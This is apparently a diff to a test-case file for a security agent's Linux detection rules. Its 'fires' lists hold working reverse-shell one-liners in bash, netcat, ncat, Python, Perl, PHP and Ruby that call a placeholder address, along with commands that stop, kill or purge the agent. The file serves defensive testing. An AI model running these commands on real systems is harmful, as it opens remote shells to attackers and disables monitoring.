@@ -88,8 +88,14 @@ export const linuxCases: Readonly<Record<string, RuleCases>> = {
       shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
       shell('exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l >&5; done'),
       shell('0<&196;exec 196<>/dev/tcp/203.0.113.9/80; sh <&196 >&196 2>&196'),
+      shell('exec /bin/sh 0</dev/tcp/203.0.113.9/443 1>&0 2>&0'),
+      shell('/bin/sh >& /dev/udp/203.0.113.9/53 0>&1'),
     ],
     silent: [
+      // Health checks of containers, as published with their images.
+      shell('exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health/ready HTTP/1.1\\r\\n" >&3; cat <&3 | grep -q UP'),
+      started('timeout 1 bash -c </dev/tcp/db.internal/5432 2>&1', '/usr/bin/timeout'),
+      shell('while ! (exec 3<>/dev/tcp/db/5432) 2>&1; do sleep 1; done; ssh -i key eve@db'),
       shell('(echo > /dev/tcp/db.internal/5432) 2>&1 && echo open'),
       started('/usr/bin/grep -r /dev/tcp/ /usr/share/doc'),
     ],
@@ -101,6 +107,49 @@ export const linuxCases: Readonly<Record<string, RuleCases>> = {
       shell('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'),
     ],
     silent: [started('nc -vz db.internal 5432', '/usr/bin/nc'), started('nc -l -p 9000', '/usr/bin/nc.openbsd')],
+  },
+  execution_reverse_shell_netcat_shell: {
+    fires: [
+      started('nc 203.0.113.9 4444 -e /bin/sh', '/usr/bin/nc.traditional'),
+      started('nc -e/bin/bash 203.0.113.9 4444', '/usr/bin/nc.traditional'),
+      started('ncat -lvp 4444 -c sh', '/usr/bin/ncat'),
+      started('ncat --sh-exec=/bin/bash 203.0.113.9 4444', '/usr/bin/ncat'),
+      started('busybox nc 203.0.113.9 4444 -e sh', '/bin/busybox'),
+      shell('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'),
+    ],
+    silent: [
+      started('ncat --exec /usr/local/bin/echo-server -l 7', '/usr/bin/ncat'),
+      started('nc -l -p 9000 -c /opt/test/answer.sh', '/usr/bin/nc.traditional'),
+      started('nc -vz db.internal 5432', '/usr/bin/nc'),
+    ],
+  },
+  execution_reverse_shell_one_liner: {
+    fires: [
+      started(
+        `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`,
+        '/usr/bin/python3.11',
+      ),
+      started(
+        `python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`,
+        '/usr/bin/python3.11',
+      ),
+      started(`perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("sh -i")`, '/usr/bin/perl'),
+      started(
+        'perl -MIO -e $c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
+        '/usr/bin/perl',
+      ),
+      started(`php -r $s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");`, '/usr/bin/php8.2'),
+      started(
+        'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
+        '/usr/bin/ruby3.1',
+      ),
+    ],
+    silent: [
+      started('python3 -c import socket,subprocess;subprocess.run(["ip","a"]);socket.create_connection(("db",5432))'),
+      started('python3 -c import socket;s=socket.socket();s.connect(("db",5432));print("pushed")'),
+      started('python3 /opt/socket_connect_dup2.py', '/usr/bin/python3.11'),
+      started('ruby -rsocket -e puts TCPSocket.open("db",5432)', '/usr/bin/ruby3.1'),
+    ],
   },
   execution_reverse_shell_interpreter: {
     fires: [
@@ -293,11 +342,30 @@ export const linuxCases: Readonly<Record<string, RuleCases>> = {
       started('pkill -9 firebreak-agent', '/usr/bin/pkill'),
       started('apt-get remove -y firebreak-agent', '/usr/bin/apt-get'),
       started('rm -rf /var/lib/firebreak-agent', '/usr/bin/rm'),
+      started('systemctl disable --now firebreak-agent.service', '/usr/bin/systemctl'),
+      started('killall firebreak-agent', '/usr/bin/killall'),
+      started('pkill -f firebreak', '/usr/bin/pkill'),
+      started('dpkg --purge firebreak-agent:amd64', '/usr/bin/dpkg'),
+      started('systemctl stop firebreak-agent', '/usr/bin/systemctl', {
+        executable: '/usr/bin/dash',
+        command_line: '/bin/sh /var/lib/dpkg/info/updates.postinst configure 1.0',
+      }),
+      started('systemctl stop firebreak-agent', '/usr/bin/systemctl', {
+        executable: '/usr/bin/dash',
+        command_line: 'sh -c systemctl stop firebreak-agent; : /var/lib/dpkg/info/firebreak-agent.prerm upgrade 0.2.0',
+      }),
     ],
     silent: [
       started('systemctl status firebreak-agent', '/usr/bin/systemctl'),
       started('systemctl restart firebreak-agent', '/usr/bin/systemctl'),
       started('systemctl stop nginx', '/usr/bin/systemctl'),
+      started('pkill -f /home/eve/firebreak/test/e2e/fleet.ts', '/usr/bin/pkill'),
+      started('rm -rf /tmp/firebreak-test-1/etc/firebreak', '/usr/bin/rm'),
+      started('apt-get remove -y firebreak-agent-docs', '/usr/bin/apt-get'),
+      started('systemctl stop firebreak-agent.service', '/usr/bin/systemctl', {
+        executable: '/usr/bin/dash',
+        command_line: '/bin/sh /var/lib/dpkg/info/firebreak-agent.prerm upgrade 0.2.0',
+      }),
     ],
   },
   defense_evasion_host_firewall_off: {
